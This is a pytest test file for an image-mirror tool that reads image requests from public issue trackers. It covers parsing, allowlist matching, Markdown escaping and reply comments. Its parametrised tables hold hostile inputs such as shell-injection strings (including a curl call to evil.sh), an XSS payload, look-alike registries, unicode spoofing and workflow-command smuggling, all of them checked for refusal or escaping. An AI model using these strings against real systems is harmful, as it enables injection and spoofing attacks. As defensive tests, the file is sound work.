"""Self-service requests, the pure part: reading issues, the allowlist, escaping, the answer.

Hostile input is the normal case for a public issue tracker, so most tables here are
attacks: look-alike registries, unicode, injection into Markdown and the shell,
mentions, floods. Everything runs in memory, in well under a second.
"""

from __future__ import annotations

import re
from functools import partial
from typing import Any

import pytest

from imgsync.config.allowlist_file import build_allowlist
from imgsync.core.allowlist import Allowlist
from imgsync.core.issue_event import Author, Ignored, IssueEvent, Triggered, decide
from imgsync.core.mapping import parse_item
from imgsync.core.markdown_safe import code, plain
from imgsync.core.name_pattern import compile_name_pattern
from imgsync.core.request import RequestPlan, plan_request
from imgsync.core.request_comment import answer
from imgsync.core.request_parse import MAX_BODY_BYTES, MAX_LINES, read_request
from imgsync.core.result import Category, ErrorInfo, Status, SyncResult
from imgsync.errors import ConfigError

PREFIX = "mirror.example.com/m"
DIGEST = "sha256:" + "ab" * 32
ALLOWLIST: dict[str, Any] = {
    "allow": [
        "docker.io/library/*",
        {"source": "ghcr.io/acme/**", "tags": ["v*"], "deny_tags": ["*-rc*"]},
        {"source": "quay.io/prometheus/node-exporter", "platforms": ["linux/amd64"]},
    ],
    "deny": ["docker.io/library/ubuntu"],
    "max_per_issue": 3,
}


def allowlist(**changes: Any) -> Allowlist:
    return build_allowlist({**ALLOWLIST, **changes})


def plan(body: str, title: str = "", **changes: Any) -> RequestPlan:
    parse = partial(parse_item, dest_prefix=PREFIX)
    return plan_request(read_request(title, body), allowlist(**changes), parse)


def verdicts(body: str, **changes: Any) -> dict[str, str]:
    """``{piece: "ok" or the reason}`` for every piece of ``body``."""
    made = plan(body, **changes)
    found = {a.piece.text: "ok" for a in made.accepted}
    found.update({r.piece.text: r.reason for r in made.rejected})
    return found


# --------------------------------------------------------------------------- reading issues


@pytest.mark.parametrize(
    ("body", "pieces"),
    [
        ("nginx:1.27\nredis:7", ["nginx:1.27", "redis:7"]),
        ("nginx:1.27, redis:7,,", ["nginx:1.27", "redis:7"]),
        (
            "- nginx:1.27\n* redis:7\n+ [x] alpine\n1. busybox",
            ["nginx:1.27", "redis:7", "alpine", "busybox"],
        ),
        ("`nginx:1.27`\n```\nredis:7\n```", ["nginx:1.27", "redis:7"]),
        (
            "### Images\n\nnginx:1.27\n\n### Why\n\n_No response_",
            ["nginx:1.27"],
        ),
        ("<!-- nginx:1.27 -->redis:7\n<!-- unterminated\nalpine", ["redis:7"]),
        (
            "# a comment\nnginx:1.27 = mirror.example.com/m/nginx:1.27",
            ["nginx:1.27=mirror.example.com/m/nginx:1.27"],
        ),
        ("Please mirror this image for me, thanks", []),
        ("\r\nnginx:1.27\r\n", ["nginx:1.27"]),
    ],
    ids=[
        "lines",
        "commas",
        "bullets",
        "backticks-fences",
        "issue-form",
        "html-comments",
        "comment-and-equals",
        "prose",
        "crlf",
    ],
)
def test_pieces_are_read_through_the_markdown_people_write(body: str, pieces: list[str]) -> None:
    assert [piece.text for piece in read_request("", body).pieces] == pieces


@pytest.mark.parametrize(
    ("title", "pieces"),
    [
        ("[sync] nginx:1.27", ["nginx:1.27"]),
        ("Sync: nginx", ["nginx"]),
        ("[Mirror]: redis:7", ["redis:7"]),
        ("redis:7", ["redis:7"]),
        ("Mirror request", []),
        ("mirror redis:7", []),
    ],
)
def test_the_title_is_read_too_without_its_leading_word(title: str, pieces: list[str]) -> None:
    assert [p.text for p in read_request(title, "").pieces] == pieces


def test_a_huge_body_is_cut_at_the_byte_cap_and_the_line_cap_and_says_so() -> None:
    body = "nginx:1.27\n" * 200_000  # 2.2 MB
    text = read_request("", body)
    assert text.truncated_bytes and text.truncated_lines
    assert len(text.pieces) == MAX_LINES
    assert "Only the first 16 KiB" in answer(plan(body), [], command="/sync").body


def test_the_byte_cap_never_splits_a_character() -> None:
    body = "é" * MAX_BODY_BYTES
    assert not read_request("", body).pieces[0].text.endswith("\ufffd")


def test_a_flood_of_pieces_is_judged_quickly_and_shown_shortened() -> None:
    body = ",".join(f"docker.io/library/img{i}" for i in range(3000))
    made = plan(body)
    assert len(made.accepted) == 3
    shown = answer(made, [], command="/sync").body
    assert "more not shown" in shown and len(shown) < 10_000


# --------------------------------------------------------------------------- the allowlist


@pytest.mark.parametrize(
    ("piece", "verdict"),
    [
        ("nginx:1.27", "ok"),
        ("index.docker.io/library/nginx", "ok"),
        ("docker.io/nginx", "ok"),
        (
            "docker.io/library/ubuntu:24.04",
            "docker.io/library/ubuntu is denied (docker.io/library/ubuntu)",
        ),
        (
            "docker.io.evil.com/library/nginx",
            "docker.io.evil.com/library/nginx is not on the allowlist",
        ),
        ("dockerhub.com/library/nginx", "dockerhub.com/library/nginx is not on the allowlist"),
        ("docker.io:443/library/nginx", "docker.io:443/library/nginx is not on the allowlist"),
        ("Docker.io/library/nginx", "Docker.io/library/nginx is not on the allowlist"),
        (
            "registry-1.docker.io/library/nginx",
            "registry-1.docker.io/library/nginx is not on the allowlist",
        ),
        ("evil/nginx", "docker.io/evil/nginx is not on the allowlist"),
        ("docker.io/library/nginx/extra", "docker.io/library/nginx/extra is not on the allowlist"),
        ("ghcr.io/acme/app:v1.2", "ok"),
        ("ghcr.io/acme/team/app:v2", "ok"),
        ("ghcr.io/acme:v1", "ghcr.io/acme is not on the allowlist"),
        ("ghcr.io/acme-evil/app:v1", "ghcr.io/acme-evil/app is not on the allowlist"),
        ("ghcr.io/acme/app:latest", "tag latest is not one ghcr.io/acme/** allows (v*)"),
        ("ghcr.io/acme/app:v2-rc1", "tag v2-rc1 is denied for ghcr.io/acme/**"),
        (
            f"ghcr.io/acme/app@{DIGEST}=mirror.example.com/m/acme/app:v1",
            "ghcr.io/acme/** allows only tags (v*), not digests",
        ),
    ],
)
def test_only_the_normalised_name_matches_so_look_alikes_never_do(piece: str, verdict: str) -> None:
    assert verdicts(piece)[piece] == verdict


@pytest.mark.parametrize(
    "piece",
    [
        "ngіnx",  # Cyrillic і
        "docker.io/library/nginx\u200b",  # zero-width space
        "ｎｇｉｎｘ",  # fullwidth
        "docker.io/library/\u202enignx",  # right-to-left override
        "docker.io%2flibrary%2fnginx",
        "docker.io/library/../nginx",
        "nginx;rm",
        "$(curl${IFS}evil.sh)",
        "nginx|sh",
    ],
)
def test_unicode_and_shell_text_is_refused_as_a_reference(piece: str) -> None:
    reason = verdicts(piece)[piece]
    assert reason != "ok"
    assert reason.startswith("source ")


def test_the_max_per_issue_rejects_the_rest_in_order_and_repeats_do_not_count() -> None:
    found = verdicts("nginx:1, nginx:1, redis:1, alpine:1, busybox:1")
    assert found == {
        "nginx:1": "ok",
        "redis:1": "ok",
        "alpine:1": "ok",
        "busybox:1": "more than 3 images in one request",
    }


def test_a_rule_s_platforms_and_the_default_platforms_go_onto_the_item() -> None:
    made = plan("quay.io/prometheus/node-exporter:v1, nginx", platforms=["linux/arm64"])
    platforms = {
        str(a.item.source): [str(p) for p in a.item.platforms or ()] for a in made.accepted
    }
    assert platforms == {
        "quay.io/prometheus/node-exporter:v1": ["linux/amd64"],
        "docker.io/library/nginx:latest": ["linux/arm64"],
    }


def test_a_requester_cannot_choose_where_an_image_goes() -> None:
    found = verdicts(
        "nginx:1.27=mirror.example.com/m/redis:7, "
        "nginx:1.26=mirror.example.com/m/nginx:1.26, "
        "alpine=elsewhere.example.com/x/alpine"
    )
    assert found["nginx:1.27=mirror.example.com/m/redis:7"] == (
        "the mirror chooses destinations: request the source alone"
    )
    assert found["nginx:1.26=mirror.example.com/m/nginx:1.26"] == "ok"
    assert found["alpine=elsewhere.example.com/x/alpine"].startswith("the mirror chooses")


def test_the_allowlist_may_open_destinations_and_two_sources_cannot_share_one() -> None:
    found = verdicts(
        "nginx=mirror.example.com/m/web, alpine=mirror.example.com/m/web",
        destinations=["mirror.example.com/m/*"],
    )
    assert found["nginx=mirror.example.com/m/web"] == "ok"
    assert found["alpine=mirror.example.com/m/web"] == (
        "writes mirror.example.com/m/web:latest, as image 1 does"
    )


@pytest.mark.parametrize(
    ("pattern", "name", "matches"),
    [
        ("docker.io/library/*", "docker.io/library/nginx", True),
        ("docker.io/library/*", "docker.io/library/a/b", False),
        ("ghcr.io/org/**", "ghcr.io/org/a/b/c", True),
        ("ghcr.io/org/**", "ghcr.io/org", False),
        ("ghcr.io/org/**/x", "ghcr.io/org/x", True),
        ("ghcr.io/org/**/x", "ghcr.io/org/a/b/x", True),
        ("docker.io/bitnami/redis*", "docker.io/bitnami/redis-cluster", True),
        ("docker.io/bitnami/redis*", "docker.io/bitnami/redis/x", False),
        ("docker.io/library/nginx", "docker.io.evil.com/library/nginx", False),
        ("127.0.0.1:5000/t/*", "127.0.0.1:5000/t/a", True),
        ("127.0.0.1:5000/t/*", "127.0.0.1:50001/t/a", False),
        ("quay.io/a.b/c", "quay.io/aXb/c", False),
    ],
)
def test_name_patterns(pattern: str, name: str, matches: bool) -> None:
    assert compile_name_pattern(pattern).matches(name) is matches


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({}, "'allow:' is required"),
        ({"allow": []}, "allow: must be a non-empty list"),
        ({"allow": ["nginx"]}, "must start with a registry host"),
        ({"allow": ["*.docker.io/library/*"]}, "no '*'"),
        ({"allow": ["docker.*/library/*"]}, "no '*'"),
        ({"allow": ["docker.io/nginx"]}, "official images are docker.io/library/nginx"),
        ({"allow": ["index.docker.io/library/*"]}, "write docker.io"),
        ({"allow": ["docker.io/Library/*"]}, "must be lowercase"),
        ({"allow": ["docker.io/a**/b"]}, "must be lowercase"),
        ({"allow": [{"source": "docker.io/library/*", "deny_tag": ["x"]}]}, "allow[0].deny_tag"),
        ({"allow": [{"tags": ["x"]}]}, "needs 'source:'"),
        ({"allow": ["docker.io/library/*"], "max_per_issue": "1000"}, "between 1 and 100"),
        ({"allow": ["docker.io/library/*"], "max_per_issue": "ten"}, "whole number"),
        ({"allow": ["docker.io/library/*"], "platforms": ["Linux/AMD64"]}, "lowercase"),
        ({"allow": ["docker.io/library/*"], "denied": []}, "unknown key"),
    ],
)
def test_a_wrong_allowlist_is_refused_naming_the_key(data: dict[str, Any], message: str) -> None:
    with pytest.raises(ConfigError, match=re.escape(message)):
        build_allowlist(data)


# --------------------------------------------------------------------------- escaping


HOSTILE = [
    "@octocat please",
    "fixes #1 and acme/mirror#2",
    "<img src=x onerror=alert(1)><script>x</script>",
    "[click](https://evil.example) www.evil.example",
    "`code` ``` ~~~",
    "line\n## heading\n::add-mask::x\r\n::error::y",
    "**bold** _it_ <!-- -->",
    "\u202etxt.exe\u200b",
    "|a|b|",
    "\\`@x",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_plain_text_renders_as_itself_with_no_markup_mention_or_link(text: str) -> None:
    shown = plain(text)
    assert "\n" not in shown and "\r" not in shown
    assert not re.search(r"(?<!\\)[<>`*_\[\]|]", shown), shown
    assert not re.search(r"@\w|#\d|://|www\\?\.", shown), shown
    assert "\u202e" not in shown


@pytest.mark.parametrize("text", HOSTILE)
def test_a_code_span_cannot_be_closed_early_and_holds_no_mention(text: str) -> None:
    shown = code(text)
    assert shown.startswith("`") and shown.endswith("`") and shown.count("`") == 2
    assert "\n" not in shown and not re.search(r"@\w|#\w", shown)


def test_nothing_typed_starts_a_line_of_the_comment() -> None:
    """So neither a Markdown block nor a ``::workflow command::`` can be smuggled in."""
    body = "\n".join(f"{h.replace(chr(10), ' ')}" for h in HOSTILE)
    typed = "::add-mask::secret,#12,<b>bold</b>,@octocat,[x](javascript:y),<script>"
    made = plan("\n".join(["nginx:1.27", typed, body]), title="## @octocat <script> `x`")
    assert len(made.rejected) > 6
    comment = answer(made, [], command="/sync").body.removeprefix("<!-- imgsync-request -->\n")
    assert not re.search(r"^\s*(::|<|@|#\d|\[)", comment, re.MULTILINE), comment
    assert "@octocat" not in comment
    outside_code = re.sub(r"`[^`\n]*`", "", comment)
    assert "<" not in outside_code, outside_code


# --------------------------------------------------------------------------- the answer


def result(item_plan: RequestPlan, index: int, status: Status, **extra: Any) -> SyncResult:
    item = item_plan.accepted[index].item
    return SyncResult(str(item.source), str(item.destination), status, **extra)


def test_all_ready_is_labelled_synced_closed_and_gives_pull_lines_and_digests() -> None:
    made = plan("nginx:1.27\nredis:7")
    results = [
        result(made, 0, Status.SYNCED, destination_digest=DIGEST),
        result(made, 1, Status.SKIPPED, source_digest=DIGEST),
    ]
    reply = answer(made, results, command="/sync")
    assert (reply.label, reply.close) == ("synced", True)
    assert "docker pull mirror.example.com/m/nginx:1.27" in reply.body
    assert "docker pull mirror.example.com/m/redis:7" in reply.body
    assert reply.body.count(DIGEST) == 2
    assert "already mirrored" in reply.body


@pytest.mark.parametrize(
    ("body", "statuses", "label"),
    [
        ("nginx, ubuntu", [Status.SYNCED], "partial"),
        ("nginx, redis", [Status.SYNCED, Status.FAILED], "partial"),
        ("nginx, redis", [Status.FAILED, Status.DEFERRED], "failed"),
        ("ubuntu, evil.example/x", [], "rejected"),
        ("", [], "rejected"),
    ],
)
def test_labels(body: str, statuses: list[Status], label: str) -> None:
    made = plan(body)
    results = [result(made, i, status) for i, status in enumerate(statuses)]
    reply = answer(made, results, command="/sync")
    assert (reply.label, reply.close) == (label, False)
    assert f"Label: `{label}`" in reply.body


def test_a_failure_says_why_without_a_pull_line() -> None:
    made = plan("nginx:1.27")
    error = ErrorInfo(Category.NOT_FOUND, "manifest unknown for <b>@x</b>")
    reply = answer(made, [result(made, 0, Status.FAILED, error=error)], command="/sync")
    assert "docker pull" not in reply.body
    assert "not\\_found: manifest unknown for &lt;b&gt;@\u200bx&lt;/b&gt;" in reply.body


def test_an_empty_request_explains_how_to_write_one() -> None:
    reply = answer(plan("Hello there, please help"), [], command="/sync")
    assert "No image found" in reply.body and "one image per line" in reply.body
    assert "1 line(s) with spaces inside" in reply.body


# --------------------------------------------------------------------------- when to act


def event(**changes: Any) -> IssueEvent:
    fields: dict[str, Any] = {
        "kind": "issue_comment",
        "action": "created",
        "number": 1,
        "title": "nginx",
        "body": "redis",
        "author": Author("octocat", "User"),
        "comment": "/sync",
    }
    return IssueEvent(**{**fields, **changes})


@pytest.mark.parametrize(
    ("changes", "outcome"),
    [
        ({}, Triggered("nginx", "redis")),
        ({"comment": "  /sync alpine:3\nbusybox"}, Triggered("", " alpine:3\nbusybox")),
        ({"comment": "/synced"}, Ignored("the comment does not start with /sync")),
        ({"comment": "please /sync"}, Ignored("the comment does not start with /sync")),
        ({"author": Author("github-actions[bot]", "Bot")}, Ignored("the comment is a bot's")),
        ({"author": Author("renovate[bot]", "User")}, Ignored("the comment is a bot's")),
        ({"is_pull_request": True}, Ignored("the event is about a pull request, not an issue")),
        (
            {"action": "edited"},
            Ignored("comment events other than 'created' are ignored (this: edited)"),
        ),
        ({"kind": "issues", "action": "opened", "comment": None}, Triggered("nginx", "redis")),
        (
            {"kind": "issues", "action": "edited", "comment": None},
            Ignored("issues events other than 'opened' are ignored (this: edited)"),
        ),
    ],
)
def test_when_to_act(changes: dict[str, Any], outcome: Triggered | Ignored) -> None:
    assert decide(event(**changes), "/sync") == outcome
